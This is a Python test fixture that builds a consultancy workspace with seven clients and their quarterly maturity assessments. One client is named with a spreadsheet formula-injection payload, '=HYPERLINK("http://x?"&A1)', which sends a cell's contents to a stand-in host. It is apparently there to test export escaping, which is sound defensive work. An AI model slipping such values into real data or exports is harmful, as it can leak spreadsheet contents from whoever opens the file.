"""A consultancy with seven clients over two quarters, for the portfolio's web and CLI tests.

Client n answers level 1 + n % 4 in 2026-Q3 and one level more in 2026-Q4 — but the
last, which has no Q4 assessment ("not assessed in 2026-Q4", last assessed 2026-Q3).
Five of the seven are retail; one is named like a spreadsheet formula.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from factories import make_member, make_organization, make_workspace
from history_quarters import document, import_all, person

from cxmaturity.domain.statuses import WorkspaceKind, WorkspaceRole
from cxmaturity.store.database import transaction
from cxmaturity.store.models import OrganizationTag

FORMULA_NAME = '=HYPERLINK("http://x?"&A1)'
NAMES = ("Alpha AG", "Beta GmbH", FORMULA_NAME, "Delta KG", "Epsilon SE", "Zeta AG", "Omega AG")
INDUSTRIES = ("retail", "retail", "retail", "finance", "retail", "retail", "finance")


@dataclass
class PortfolioWorld:
    ids: dict[str, int] = field(default_factory=dict)
    emails: dict[str, str] = field(default_factory=dict)


def build(sessions, catalogue, prefix: str = "") -> PortfolioWorld:
    """Workspaces `{prefix}nord` (the consultancy) and `{prefix}team` (a team's own)."""
    world = PortfolioWorld()
    with transaction(sessions) as session:
        nord = make_workspace(session, slug=f"{prefix}nord", name="Beratung Nord")
        team = make_workspace(
            session, slug=f"{prefix}team", name="Team Süd", kind=WorkspaceKind.TEAM
        )
        for name, industry in zip(NAMES, INDUSTRIES, strict=True):
            organization = make_organization(session, name=name, industry=industry, workspace=nord)
            if name in ("Alpha AG", "Beta GmbH"):
                session.add(OrganizationTag(organization_id=organization.id, tag="pilot"))
            world.ids[name] = organization.id
        make_organization(session, name="Team Firma", workspace=team)
        world.emails["consultant"] = make_member(session, nord, role=WorkspaceRole.CONSULTANT).email
        world.emails["viewer"] = make_member(session, nord, role=WorkspaceRole.VIEWER).email
        world.emails["team_owner"] = make_member(session, team, role=WorkspaceRole.OWNER).email
    for n, name in enumerate(NAMES):
        level = 1 + n % 4
        quarters = [document("2026-Q3", "1.0", [person(catalogue, "1.0", "Anna", level)])]
        if name != "Omega AG":
            quarters.append(
                document("2026-Q4", "1.0", [person(catalogue, "1.0", "Anna", level + 1)])
            )
        import_all(sessions, catalogue, f"{prefix}nord", world.ids[name], quarters)
    return world
